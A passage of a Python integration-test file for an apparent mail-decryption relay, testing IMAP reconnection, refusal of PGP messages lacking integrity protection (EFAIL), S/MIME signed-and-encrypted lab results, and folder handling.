        dovecot.stop(keep=True)
        proxy.cut()
        status = wait_for(lambda: (lambda a: a[0]["connection"] == "backing-off" and a)(
            imap_status(relay)), timeout=60)
        assert status[0]["connection_error"] and status[0]["connection_since"]
        assert "connection lost" in status[0]["connection_error"]
        wait_for(lambda: "imap.connect_failed" in relay.log(), timeout=30)
        assert "retry_in_s=" in relay.log()
        # ... and carries on once it is back, with mail that arrived meanwhile.
        dovecot.start()
        append(dovecot, "INBOX", encrypted_reply(world, "<net-2@example.org>"))
        wait_for(lambda: len(readable_copies(dovecot, "INBOX", "net-2")) == 1, timeout=120)
        status = wait_for(lambda: (lambda a: a[0]["connection"] == "connected" and a)(
            imap_status(relay)))
        assert status[0]["outcomes"]["decrypted"] == 2
        assert len(fetch_all(dovecot, "Sealpost/Originals")) == 2
        text = relay.cli("imap", "status").stdout
        assert "connected since" in text and "decrypted=2" in text
    finally:
        proxy.close()


def test_stripped_mdc_is_refused_as_unauthenticated(world):
    """gpg --rfc2440 writes a Symmetrically Encrypted Data packet without MDC:
    its plaintext could have been altered (EFAIL); it is never decrypted."""
    dovecot, relay, tmp = world["dovecot"], world["relay"], world["tmp"]
    msg = encrypted_reply(world, "<nomdc-1@example.org>",
                          body=b"Content-Type: text/plain\r\n\r\nGeheim.\r\n",
                          extra=("--rfc2440", "--cipher-algo", "AES256"))
    armored = msg.split(b"-----BEGIN PGP MESSAGE-----")[1].split(b"-----END")[0]
    (tmp / "nomdc.asc").write_bytes(b"-----BEGIN PGP MESSAGE-----" + armored +
                                    b"-----END PGP MESSAGE-----\n")
    packets = subprocess.run(["gpg", "--homedir", str(tmp / "practice-gpg"), "--batch",
                              "--list-packets", str(tmp / "nomdc.asc")],
                             capture_output=True).stdout
    assert b"tag=9" in packets and b"mdc_method" not in packets  # really no MDC
    append(dovecot, "INBOX", msg)
    relay.start()
    status = wait_for(lambda: (lambda a: a[0]["outcomes"].get("no-integrity") == 1 and a)(
        imap_status(relay)))
    inbox = fetch_all(dovecot, "INBOX")
    assert len(inbox) == 1 and b"X-Sealpost" not in inbox[0]  # untouched
    assert fetch_all(dovecot, "Sealpost/Originals") == []
    assert "Geheim" not in relay.log()
    assert "outcome=no-integrity" in relay.log()


def test_smime_signed_inside_envelope(world):
    """A lab signs (S/MIME, test CA) and then encrypts to the practice's
    certificate: the copy says whose valid certificate signed, and the CBC
    content counts as authenticated because the signature covers it."""
    dovecot, relay, tmp = world["dovecot"], world["relay"], world["tmp"]
    ca = TestCA(tmp / "smime-ca", name="Labor CA")
    practice_cert, _k, practice_p12 = ca.smime_cert(PRACTICE)
    lab = "labor@labor-x.example"
    lab_cert, lab_key, _p = ca.smime_cert(lab)
    relay.cli("keys", "import", practice_p12)
    relay.config["keystore"] = {"trust_anchors": [str(ca.cert)]}
    relay.write_config()
    (tmp / "inner.txt").write_bytes(b"Content-Type: text/plain\r\n\r\nKalium 4,1 mmol/l.\r\n")
    subprocess.run(["openssl", "cms", "-sign", "-binary", "-nodetach", "-in", str(tmp / "inner.txt"),
                    "-signer", str(lab_cert), "-inkey", str(lab_key), "-out", str(tmp / "signed.eml")],
                   check=True, capture_output=True)
    enveloped = subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes-256-cbc",
                                "-in", str(tmp / "signed.eml"), str(practice_cert)],
                               check=True, capture_output=True).stdout
    append(dovecot, "INBOX", ("From: <%s>\r\nTo: %s\r\nSubject: Werte\r\n"
                              "Message-ID: <lab-1@labor-x.example>\r\n" % (lab, PRACTICE)).encode()
           + enveloped)
    relay.start()
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
    copy = [m for m in fetch_all(dovecot, "INBOX") if b"lab-1" in m][0]
    assert b"X-Sealpost-Decrypted: yes\r\n" in copy  # not "unauthenticated"
    assert b"X-Sealpost-Signature: valid certificate x509:" in copy
    assert b"Kalium 4,1 mmol/l." in copy and b"pkcs7" not in copy


@pytest.mark.parametrize("world", [{"dovecot_conf":
                                    "protocol imap {\n  imap_capability = IMAP4rev1 "
                                    "SASL-IR LITERAL+ ENABLE IDLE\n}\n"}], indirect=True)
def test_readable_folder_and_a_server_without_move_or_uidplus(world):
    """Readable copies go to imap[].readable_folder. Without MOVE and UIDPLUS the
    original is copied away and flagged \\Deleted, but nothing is expunged: a
    message staff flagged \\Deleted themselves stays."""
    dovecot, relay = world["dovecot"], world["relay"]
    relay.config["imap"][0]["readable_folder"] = "Sealpost/Lesbar"
    relay.write_config()
    m = dovecot.client()
    m.append("INBOX", r"(\Deleted)", None,
             b"From: kollegin@praxis.example\r\nSubject: alt\r\nMessage-ID: <staff-1@x>\r\n\r\nx\r\n")
    m.logout()
    append(dovecot, "INBOX", encrypted_reply(world, "<move-1@example.org>"))
    relay.start()
    wait_for(lambda: len(readable_copies(dovecot, "Sealpost/Lesbar", "move-1")) == 1)
    wait_for(lambda: len(fetch_all(dovecot, "Sealpost/Originals")) == 1)
    time.sleep(2)
    inbox = fetch_all(dovecot, "INBOX")
    assert any(b"staff-1" in x for x in inbox)  # not expunged by Sealpost
    assert not readable_copies(dovecot, "INBOX", "move-1")
    m = dovecot.client()
    m.select("INBOX", readonly=True)
    typ, data = m.uid("SEARCH", "DELETED", "HEADER", "Message-ID", "move-1")
    m.logout()
    assert typ == "OK" and data[0].split(), "the original is flagged \\Deleted"
    assert "server has neither MOVE nor UIDPLUS" in relay.log()


def test_several_folders_each_wait_in_idle(world):
    """Every folder has its own connection, so a reply in a second folder is
    handled within seconds, not at the next 60 s poll."""
    dovecot, relay = world["dovecot"], world["relay"]
    m = dovecot.client()
    m.create("Labor")
    m.logout()
    relay.config["imap"][0]["folders"] = ["INBOX", "Labor"]
    relay.write_config()
    relay.start()
    wait_for(lambda: [a["connection"] for a in imap_status(relay)] == ["connected", "connected"])
    time.sleep(1)
    start = time.time()
    append(dovecot, "Labor", encrypted_reply(world, "<labor-1@example.org>"))
    wait_for(lambda: len(readable_copies(dovecot, "Labor", "labor-1")) == 1, timeout=30)
    assert time.time() - start < 20
    append(dovecot, "INBOX", encrypted_reply(world, "<inbox-1@example.org>"))
    wait_for(lambda: len(readable_copies(dovecot, "INBOX", "inbox-1")) == 1, timeout=30)
